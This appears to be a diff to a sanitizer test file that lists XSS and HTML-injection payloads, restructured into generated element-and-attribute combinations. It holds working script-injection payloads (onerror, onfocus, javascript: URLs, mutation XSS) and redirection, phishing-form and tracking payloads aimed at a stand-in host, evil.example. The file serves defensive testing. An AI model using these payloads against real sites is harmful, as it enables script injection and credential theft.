@@ -146,24 +146,17 @@ const RUNNING = [
   `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
   `<math><mi xlink:href="javascript:${HIT}">x</mi></math>`,
   `<math><annotation-xml encoding="text/html"><img src=x onerror=${HIT}></annotation-xml></math>`,
-  `<iframe src="javascript:${HIT}"></iframe>`,
   `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
-  `<object data="javascript:${HIT}"></object>`,
-  `<embed src="javascript:${HIT}">`,
-  `<body onload=${HIT}>`,
-  `<details open ontoggle=${HIT}>x</details>`,
   `<video><source onerror=${HIT}></video>`,
-  `<audio src=x onerror=${HIT}>`,
-  `<marquee onstart=${HIT}>x</marquee>`,
-  `<input autofocus onfocus=${HIT}>`,
-  `<select autofocus onfocus=${HIT}>`,
-  `<div contenteditable autofocus onfocus=${HIT}>x</div>`,
-  `<p tabindex=1 autofocus onfocus=${HIT}>x</p>`,
   `<template><script>${HIT}</script></template>`,
   `<div><template shadowrootmode=open><img src=x onerror=${HIT}></template></div>`,
-  `<x onclick=${HIT}>x</x>`,
-  `<custom-element onpointerenter=${HIT}>x</custom-element>`,
 ];
+
+/** Elements that no text needs: they run scripts, send requests or take the focus by themselves. */
+const ELEMENTS = (
+  'iframe object embed body details video audio marquee input select div p form button dialog ' +
+  'base link meta style svg math x custom-element'
+).split(' ');
 
 /** Mutation XSS: harmless when parsed once, dangerous when serialised and parsed again. */
 const MUTATING = [
@@ -190,10 +183,8 @@ const MUTATING = [
 /** Runs no script, but would imitate the app, break it or send requests. */
 const PRETENDING = [
   `<style>@import "${EVIL}";*{display:none}</style>`,
-  `<link rel=stylesheet href="${EVIL}">`,
   `<link rel=prefetch href="${EVIL}">`,
   `<meta http-equiv=refresh content="0;url=${EVIL}">`,
-  `<base href="https://evil.example/">`,
   `<p style="position:fixed;inset:0;background:url(${EVIL})">x</p>`,
   `<p style="background:image-set('${EVIL}' 1x)">x</p>`,
   `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table>`,
@@ -205,14 +196,8 @@ const PRETENDING = [
   `<img src="/uploads/../api/user/logout">`,
   `<img src="/api/user/logout">`,
   `<img lowsrc="${EVIL}" dynsrc="${EVIL}">`,
-  `<video poster="${EVIL}.png" src="${EVIL}.mp4"></video>`,
-  `<audio src="${EVIL}.mp3" autoplay></audio>`,
   `<svg><image href="${EVIL}.png"/></svg>`,
-  `<iframe src="${EVIL}"></iframe>`,
-  `<object data="${EVIL}"></object>`,
   `<form action="${EVIL}"><input name=password type=password><button>Log in</button></form>`,
-  `<button formaction="${EVIL}">Log in</button>`,
-  `<dialog open>Log in again</dialog>`,
   `<p popover id=pop>Log in again</p>`,
   `<a href="https://known.example" ping="${EVIL}">x</a>`,
   `<a href="${EVIL}" target=_top>x</a>`,
@@ -230,6 +215,15 @@ const PAYLOADS: readonly string[] = [
   ...SCHEMES.map((address) => `<a href="${address}">x</a>`),
   ...SCHEMES.map((address) => `<img src="${address}">`),
   ...SCHEMES.map((address) => `<p><a xlink:href="${address}" action="${address}">x</a></p>`),
+  ...ELEMENTS.map((tag) => `<${tag} src="javascript:${HIT}" data="javascript:${HIT}">x</${tag}>`),
+  ...ELEMENTS.map((tag) => `<${tag} autofocus open tabindex=1 onfocus=${HIT} ontoggle=${HIT}>x`),
+  ...ELEMENTS.map((tag) => `<${tag} onload=${HIT} onerror=${HIT} onclick=${HIT}>x</${tag}>`),
+  ...ELEMENTS.map(
+    (tag) => `<${tag} src="${EVIL}" href="${EVIL}" data="${EVIL}" autoplay>x</${tag}>`,
+  ),
+  ...ELEMENTS.map(
+    (tag) => `<${tag} poster="${EVIL}" action="${EVIL}" formaction="${EVIL}">x</${tag}>`,
+  ),
   ...RUNNING,
   ...MUTATING,
   ...PRETENDING,
